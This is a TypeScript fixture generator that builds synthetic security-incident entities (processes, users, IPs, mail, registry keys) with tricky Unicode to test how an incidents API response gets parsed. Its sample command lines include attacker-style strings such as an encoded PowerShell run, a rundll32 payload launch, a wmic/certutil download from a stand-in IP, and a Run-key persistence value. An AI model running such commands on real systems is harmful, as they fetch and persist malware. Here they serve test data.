import type { Json } from './json-text';
import { between, hex, pick, type Random } from './random';
import { defenderTimestamp } from './timestamps';

type Fields = Readonly<Record<string, Json>>;

/** The 31 members of an entity of `GET /api/incidents`; all are there, most are null. */
const noEntity: Fields = Object.fromEntries(
  [
    ...['entityType', 'sha1', 'sha256', 'fileName', 'filePath', 'processId', 'processCommandLine'],
    ...['processCreationTime', 'parentProcessId', 'parentProcessCreationTime', 'ipAddress', 'url', 'accountName'],
    ...['domainName', 'userSid', 'aadUserId', 'userPrincipalName', 'mailboxDisplayName', 'mailboxAddress'],
    ...['clusterBy', 'sender', 'recipient', 'subject', 'deliveryAction', 'securityGroupId', 'securityGroupName'],
    ...['registryHive', 'registryKey', 'registryValueType', 'registryValue', 'deviceId'],
  ].map((name) => [name, null]),
);

/** Text that naive handling breaks: letters beyond ASCII and the BMP, quotes, backslashes, line ends, U+2028. */
const people = ['Jörg Größe', '山田 太郎', 'Zoë O’Neill', "D'Arcy \u2028Smith", 'Ольга Петрова', 'Renée 🛡️'] as const;

const commands = [
  'powershell.exe -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'rundll32.exe "C:\\Users\\Public\\Größe\\payload.dll",RepeatAfterMe',
  'cmd.exe /c "echo <b>&\'\u00a0\'</b> | findstr /r \\"^[0-9]\\""\r\ntimeout /t 5',
  'wmic process call create "certutil -urlcache -f http://203.0.113.7/a.bin %TEMP%\\a.bin"',
] as const;

/** One process, file, user, address, mail or registry entity, as the incidents API flattens them. */
export function generateEntity(random: Random, atMs: number): Fields {
  return {
    ...noEntity,
    ...pick(random, [processFields, userFields, ipFields, mailFields, registryFields])(random, atMs),
  };
}

/** A process entity whose command line is about `length` characters long, as obfuscated scripts are. */
export function longCommandEntity(random: Random, atMs: number, length: number): Fields {
  const command = `powershell.exe -EncodedCommand ${hex(random, Math.max(0, length - 30))}`;
  return { ...noEntity, ...processFields(random, atMs), processCommandLine: command };
}

function processFields(random: Random, atMs: number): Fields {
  return {
    entityType: pick(random, ['Process', 'File']),
    sha1: hex(random, 40),
    sha256: hex(random, 64),
    fileName: pick(random, ['rundll32.exe', 'powershell.exe', '请款单.docm', 'Überweisung\t2.exe']),
    filePath: pick(random, ['C:\\Windows\\System32', '\\\\fileserver\\freigabe\\Büro', '/opt/tmp']),
    processId: between(random, 4, 65_535),
    processCommandLine: pick(random, commands),
    processCreationTime: defenderTimestamp(random, atMs - 5_000),
    parentProcessId: between(random, 4, 65_535),
    parentProcessCreationTime: defenderTimestamp(random, atMs - 60_000),
    deviceId: hex(random, 40),
  };
}

function userFields(random: Random): Fields {
  return {
    entityType: 'User',
    accountName: pick(random, people),
    domainName: 'CONTOSO',
    userSid: `S-1-5-21-${between(random, 1, 2 ** 31)}-${between(random, 1, 2 ** 31)}-1107`,
    userPrincipalName: `user${between(random, 1, 999)}@contoso.com`,
  };
}

function ipFields(random: Random): Fields {
  return { entityType: 'Ip', ipAddress: pick(random, ['203.0.113.7', '198.51.100.23', '2001:db8::7334']) };
}

function mailFields(random: Random): Fields {
  return {
    entityType: 'MailMessage',
    mailboxDisplayName: pick(random, people),
    sender: 'rechnung@größe.example',
    recipient: `user${between(random, 1, 999)}@contoso.com`,
    subject: pick(random, ['[EXTERNAL] Attention', 'Fwd: "Überfällige Rechnung"', '緊急: パスワード\nの確認']),
    deliveryAction: pick(random, ['Delivered', 'Blocked']),
  };
}

function registryFields(): Fields {
  return {
    entityType: 'Registry',
    registryHive: 'HKEY_LOCAL_MACHINE',
    registryKey: 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run',
    registryValueType: 'Unknown',
    registryValue: '"C:\\ProgramData\\updater.exe" /silent',
  };
}
